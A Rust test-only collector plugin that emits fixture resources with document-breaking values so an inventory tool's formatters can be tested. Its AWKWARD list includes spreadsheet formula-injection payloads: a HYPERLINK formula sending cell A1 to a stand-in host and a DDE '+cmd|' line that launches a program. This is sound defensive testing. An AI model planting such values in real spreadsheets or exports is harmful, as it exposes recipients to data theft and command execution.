//! `awkward-records`: a test-only collector that emits resources holding
//! the values that break documents, so that the formatters can be checked
//! on the real path (host, scheduler, formatter components, output).
//!
//! It calls no AWS operation. For every target it emits one resource whose
//! service is the target's account name (so account aliases become sheet
//! names), and in the first account of the run, `012345678901`, also:
//!
//! * service `awkward`, type `value`: formula-like text
//!   (`=HYPERLINK(...)`, `====`, `+cmd|'/C calc'!A0`, `-1+1`, `@SUM(A1)`),
//!   a 40,000-character policy with CR LF line ends (attribute `policy`
//!   and tag `Policy`), `report_x12345.txt`, a literal `_x0041_`, control
//!   characters (U+FFFF, vertical tab, an ANSI colour escape), unicode and
//!   right-to-left tags, tag keys differing only in case, and ids that
//!   look like numbers (`000123`, `1e5`) or formulas (`-1+1`);
//! * services `Prod` and `prod`, one resource each;
//! * service `multi` with types `alpha` and `beta`.
//!
//! The exact values are in [`AWKWARD`] and the functions below; the tests
//! in `tests/formatters.rs` check every document against them.

use inventag_plugin_sdk::prelude::*;

/// The account the fixed records go to.
const FIRST_ACCOUNT: &str = "012345678901";

/// Formula-like values, each written as a tag value and a name.
pub const AWKWARD: [&str; 5] = [
    "=HYPERLINK(\"http://x.example/?d=\"&A1,\"x\")",
    "====",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "@SUM(A1)",
];

/// The collector, registered with the host by `export_collector!`.
struct AwkwardRecords;

/// A 40,000-character policy document with CR LF line ends.
fn policy() -> String {
    let line = "{\"Effect\":\"Allow\",\"Action\":\"s3:GetObject\",\"Resource\":\"*\"},\r\n";
    let mut text = String::with_capacity(40_000);
    while text.len() + line.len() <= 40_000 {
        text.push_str(line);
    }
    while text.len() < 40_000 {
        text.push('x');
    }
    text
}

fn tag(key: &str, value: &str) -> Tag {
    Tag { key: key.to_string(), value: value.to_string() }
}

fn record(target: &Target, service: &str, ty: &str, id: &str) -> ResourceBuilder {
    ResourceBuilder::new(target, service, ty, id)
}

fn awkward(target: &Target) -> Vec<Resource> {
    let mut out = Vec::new();
    for (i, value) in AWKWARD.iter().enumerate() {
        let mut r = record(target, "awkward", "value", &format!("formula-{i}"))
            .attribute("value", *value)
            .build();
        r.name = Some(value.to_string());
        r.tags = vec![tag("Formula", value)];
        out.push(r);
    }

    let policy = policy();
    let mut r =
        record(target, "awkward", "value", "policy-1").attribute("policy", policy.as_str()).build();
    r.name = Some("report_x12345.txt".to_string());
    r.tags =
        vec![tag("Policy", &policy), tag("File", "report_x12345.txt"), tag("Escape", "_x0041_")];
    out.push(r);

    let mut r = record(target, "awkward", "value", "control-1")
        .attribute("ansi", "\u{1b}[31mred\u{1b}[0m")
        .build();
    r.name = Some("vt\u{b}tab".to_string());
    r.state = Some("x\u{ffff}y".to_string());
    r.tags = vec![
        tag("Ctl", "a\u{b}b"),
        tag("Nonchar", "x\u{ffff}y"),
        tag("Ansi", "\u{1b}[31mred\u{1b}[0m"),
    ];
    out.push(r);

    let mut r = record(target, "awkward", "value", "unicode-1").build();
    r.name = Some("名前 🚀".to_string());
    r.tags = vec![
        tag("Ünïcødé 名前", "値 ✓ émoji 🚀"),
        tag("مالك", "فريق البنية"),
        tag("Env", "prod"),
        tag("env", "dev"),
        tag("", "empty key"),
    ];
    out.push(r);

    for id in ["000123", "1e5", "-1+1"] {
        out.push(record(target, "awkward", "value", id).build());
    }

    for service in ["Prod", "prod"] {
        out.push(record(target, service, "thing", &format!("{service}-1")).build());
    }
    for ty in ["alpha", "beta"] {
        out.push(record(target, "multi", ty, &format!("{ty}-1")).build());
    }
    out
}

impl Collector for AwkwardRecords {
    fn describe() -> CollectorInfo {
        CollectorInfo {
            name: "awkward-records".to_string(),
            version: env!("CARGO_PKG_VERSION").to_string(),
            summary: "Test only: resources holding values that break documents".to_string(),
            global: false,
            calls: vec![],
            parts: Vec::new(),
        }
    }

    fn collect(target: Target) -> Result<CollectSummary, CollectError> {
        let mut records = vec![
            record(&target, &target.account_name, "alias", &format!("alias-{}", target.account_id))
                .attribute("account_name", target.account_name.as_str())
                .build(),
        ];
        if target.account_id == FIRST_ACCOUNT {
            records.extend(awkward(&target));
        }
        let mut emitter = Emitter::new();
        let mut warnings = Vec::new();
        for r in records {
            if let Err(e) = emitter.push(r) {
                warnings.push(format!("emit: {e:?}"));
            }
        }
        if let Err(e) = emitter.flush() {
            warnings.push(format!("emit: {e:?}"));
        }
        let emitted = emitter.emitted();
        Ok(CollectSummary { emitted, warnings })
    }
}

export_collector!(AwkwardRecords);
